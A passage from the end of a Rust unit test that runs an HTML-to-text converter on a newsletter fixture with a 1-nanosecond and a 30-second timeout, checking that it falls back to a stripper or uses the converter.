        let c = convert(
            NEWSLETTER.to_string(),
            LinkPolicy::Show,
            Duration::from_nanos(1),
        );
        // Either the converter was (improbably) fast enough or the stripper took over; the
        // text is there in both cases.
        check_common(&c.text);
        let c = convert(
            NEWSLETTER.to_string(),
            LinkPolicy::Show,
            Duration::from_secs(30),
        );
        assert_eq!(c.method, Method::Converter);
        check_common(&c.text);
    }
}
